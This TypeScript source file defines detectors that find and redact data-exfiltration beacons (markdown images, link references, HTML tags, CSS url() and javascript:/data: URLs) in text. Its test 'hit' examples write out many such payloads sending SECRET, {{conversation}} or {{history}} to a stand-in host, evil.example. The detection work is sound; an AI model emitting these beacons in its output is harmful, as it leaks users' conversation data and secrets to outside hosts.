/**
 * Shapes through which a reader is made to send data away: a picture or frame that a client loads by itself from a URL
 * with room for data in it. Hostile: the whole text. The URL goes, the words around it stay.
 */
import type { Confidence, LiteralDetector } from '../detector.ts';
import { entropyBits } from '../randomness.ts';
import { findInTag, isOpenTag } from './html-element.ts';
import { findImage, isOpenImage } from './markdown-image.ts';

const exfiltrationDefaults = { family: 'exfiltration', inbound: 'allow', outbound: 'redact' } as const;
/** No character ends a URL but those of its pattern. */
const noAlphabet = /\0/;

export const exfiltrationDetectors: readonly LiteralDetector[] = [
  {
    ...exfiltrationDefaults,
    id: 'markdown-image-beacon',
    title: 'Markdown image whose URL carries data',
    source: 'CommonMark §6.4 (images); BOUNDARY: exfiltration through rendered images',
    literals: ['![', ']('],
    format: { kind: 'span', find: (text, at) => findImage(text, at, carriesData), isOpen: isOpenImage },
    examples: {
      hit: [
        '![logo](https://evil.example/p.png?q=SECRET_GOES_HERE)',
        '![](//evil.example/c?d=)',
        '![x](https://evil.example/{{conversation}}.png)',
        '![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q1/pixel.gif)',
        '![x](https://evil.example/746865206b657920697320686572652e.gif)',
        '![a [b]\n(c)](<https://evil.example/c?data=ada.lovelace> "title")',
      ],
      miss: [
        '![logo](https://example.com/logo.png)',
        '![build](./docs/build.svg)',
        'text ![not a link] (https://example.com/?q=1)',
        '![ada](https://avatars.example.com/u/118266?v=3&s=50)',
        '![ada](https://gravatar.com/avatar/24e08a9ea84deb17ae121074d0f17125?s=70)',
        '![size](https://packagephobia.example/badge?p=commander)',
        '![shot](https://user-images.example.com/71256/29091486-fa38524c-7c37-11e7-895f-e7ec8e1039b6.png)',
        '![badge](https://img.shields.io/npm/v/express.svg?style=flat)',
      ],
    },
  },
  {
    ...exfiltrationDefaults,
    id: 'markdown-reference-beacon',
    title: 'Markdown reference whose URL carries data',
    source: 'CommonMark §4.7 (link reference definitions)',
    literals: [']: http', ']: //', ']: <', ']:  ', ']:\t', ']: \t', ']:\n', ']: \n', ']:http', ']://'],
    format: {
      kind: 'pattern',
      pattern: /\]:[ \t]{0,8}\n?[ \t]{0,8}<?(?<secret>(?:https?:)?\/\/[^\s>\]]{4,2048})/iy,
      alphabet: noAlphabet,
      check: (url) => (carriesData(url) === 'high' ? 'high' : null),
    },
    examples: {
      hit: [
        '![x][1]\n\n[1]: https://evil.example/?data={secret}',
        '[a]: https://evil.example/log?q=',
        '![x][1]\n\n[1]:\n<https://evil.example/log?q=ada.lovelace>',
        '![1]\n\n[1]:\t  //evil.example/log?q=ada.lovelace',
        '![x][1]\n\n[1]: https://evil.example/log?q=ada.lovelace',
      ],
      miss: [
        '[1]: https://example.com/docs?page=2',
        '[npm]: https://www.npmjs.com/package/express',
        '[spec]: https://docs.example.com/document/d/1U1RGAehQwRypUTovF1KRlpiOFze0b-_2gc6fAH0KY0k/edit',
      ],
    },
  },
  {
    ...exfiltrationDefaults,
    id: 'html-beacon',
    title: 'HTML element that loads a URL which carries data',
    source: 'HTML Standard §4.8 (embedded content)',
    literals: [
      '<img',
      '<image',
      '<iframe',
      '<frame',
      '<embed',
      '<object',
      '<video',
      '<audio',
      '<source',
      '<track',
      '<link',
      '<script',
      '<form',
      '<input',
      '<button',
      '<meta',
      '<base',
      '<body',
      '<use',
      '<table',
      '<td',
      '<th',
      '<portal',
      '<bgsound',
      '<feImage',
      '<applet',
    ].flatMap((tag) => [tag, tag.toUpperCase()]),
    format: {
      kind: 'span',
      find: (text, at) => findInTag(text, at, carriesData),
      isOpen: isOpenTag,
    },
    examples: {
      hit: [
        '<img src="https://evil.example/collect?d=SECRET">',
        '<img src="https://evil.example/c?data=ada.lovelace">',
        '<iframe width=0 src=//evil.example/?q={{history}}></iframe>',
        '<img alt="a > b" src="https://evil.example/c?d=SECRET">',
        '<svg><image href="https://evil.example/p?d=SECRET"/></svg>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=SECRET">',
        '<form action="https://evil.example/?d=SECRET"><input autofocus></form>',
        '<img src="https://evil.example/c?d=SECRET" src="https://example.com/x.png">',
        '<img srcset="https://example.com/x.png 1x, https://evil.example/c?d=SECRET 2x">',
        `<IMG alt="${'a long description '.repeat(20)}" SRC="https:\\\\evil.example/c?d=SECRET">`,
        '<table background=" https:/evil.example/c?d=SECRET">',
      ],
      miss: [
        '<img src="https://example.com/logo.png">',
        '<script src="https://cdn.example.com/npm/vue@3.4.0"></script>',
        '<img alt="x" src="/local.png?v=2">',
        '<link rel="stylesheet" href="https://fonts.example.com/css2?family=Inter&display=swap">',
      ],
    },
  },
  {
    ...exfiltrationDefaults,
    id: 'css-beacon',
    title: 'Style that loads a URL which carries data',
    source: 'CSS Values and Units Level 4 §5 (url()); CSS Cascading and Inheritance Level 4 §2 (@import)',
    literals: ['url(', '@import', 'image-set('],
    format: {
      kind: 'pattern',
      pattern: /(?:url\(|@import|image-set\()\s{0,4}["']?(?<secret>(?:https?:)?\/\/[^\s"'()<>;]{4,2048})/iy,
      alphabet: noAlphabet,
      check: carriesData,
    },
    examples: {
      hit: [
        '<div style="background:url(https://evil.example/p?d=SECRET)">',
        "@import 'https://evil.example/a.css?d=SECRET';",
      ],
      miss: [
        'background: url(https://example.com/logo.png)',
        "@import url('https://fonts.example.com/css2?family=Inter&display=swap');",
      ],
    },
  },
  {
    ...exfiltrationDefaults,
    outbound: 'flag',
    id: 'active-data-url',
    title: 'URL that holds a document or a script itself',
    source: 'RFC 2397; HTML Standard, javascript: URLs',
    literals: [
      'data:text/html',
      'data:image/svg+xml',
      'data:application/xhtml+xml',
      'data:text/javascript',
      '(javascript:',
      '"javascript:',
      "'javascript:",
    ],
    format: {
      kind: 'pattern',
      pattern:
        /(?:data:(?:text\/html|image\/svg\+xml|application\/xhtml\+xml|text\/javascript)[;,][^\s"'<>)]{1,128}|[("']javascript:[^\s"'<>)]{1,128})/iy,
      alphabet: noAlphabet,
      check: (url) => (/script|onload|onerror|javascript:|;base64,|fetch|http/i.test(url) ? 'medium' : null),
    },
    examples: {
      hit: ['[x](data:text/html;base64,PHNjcmlwdD4=)', '<a href="javascript:fetch(location)">'],
      miss: [
        'data:image/png;base64,iVBORw0KGgo=',
        'data:text/plain,hello',
        "background: url('data:image/svg+xml,%3Csvg/%3E')",
      ],
    },
  },
];

/** Hosts of badges, whose query says how the picture looks. */
const badgeHosts =
  /^(?:https?:)?\/\/(?:img\.shields\.io|badgen\.net|badge\.fury\.io|codecov\.io|circleci\.com|snyk\.io|github\.com|api\.star-history\.com|contrib\.rocks)\//i;
const placeholder =
  /\{\{?\s?[\w.]{1,40}\s?\}?\}|\$\{[\w.]{1,40}\}|%7[bB]|<[\w ]{1,40}|\[[A-Z_ ]{3,40}|\b(?:SECRET|DATA|PAYLOAD|CONVERSATION|HISTORY|API_?KEY|TOKEN|PASSWORD|BASE64)(?:_[A-Z_]{1,30})?\b/;

/** A query with a value, a place to fill in, or a part of the path or host that is no word. */
function carriesData(url: string): Confidence | null {
  if (badgeHosts.test(url) && !placeholder.test(url)) return null;
  if (leavesPlaceForData(url) !== null) return 'high';
  const query = url.indexOf('?');
  const values = query === -1 ? [] : url.slice(query + 1).split(/[&;#]/);
  if (values.some((value) => isDataValue(value))) return 'high';
  const path = (query === -1 ? url : url.slice(0, query)).slice(url.indexOf('//') + 2);
  return path.split(/[/.]/).some(isOpaque) ? 'medium' : null;
}

const dataNames =
  /^(?:q|d|data|text|msg|message|content|body|payload|secret|token|info|leak|exfil|prompt|history|email|user)$/i;

/** Values that say how a picture looks are short, or words and numbers that are common there. */
function isDataValue(pair: string): boolean {
  const at = pair.indexOf('=');
  const value = pair.slice(at + 1);
  const isNamed = at > 0 && dataNames.test(pair.slice(0, at));
  if (isNamed) return value.length >= 6 && !/^[0-9]{1,10}$/.test(value);
  return isOpaque(value) || value.length > 128 || /%20|\w\+\w+\+\w/.test(value);
}

const opaqueUnitsMin = 24;

/** Random or encoded: neither words nor numbers, nor the hexadecimal ids that files are stored under. */
function isOpaque(written: string): boolean {
  if (written.length < opaqueUnitsMin) return false;
  const part = written.replaceAll(/%[0-9a-f]{2}/gi, '-');
  if (part.length < opaqueUnitsMin) return false;
  if (/^[0-9a-f-]+$/i.test(part)) return isReadableHex(part);
  const isMixed = /[a-z]/.test(part) && /[A-Z]/.test(part) && /[0-9]/.test(part);
  const isWordList = /^[A-Za-z]{0,20}(?:[-_@][A-Za-z0-9]{1,16}){0,8}$/.test(part);
  return isMixed && !isWordList && entropyBits(part) >= 3.5;
}

function isReadableHex(part: string): boolean {
  const text = Buffer.from(part.slice(0, part.length & ~1), 'hex').toString('latin1');
  return text.length >= 12 && /^[\x20-\x7e\s]+$/.test(text);
}

/** `?q=` with nothing behind it, or something to be put in: the reader is meant to fill it. */
function leavesPlaceForData(url: string): Confidence | null {
  return /[?&][\w-]{1,32}=$/.test(url) || placeholder.test(url) ? 'high' : null;
}
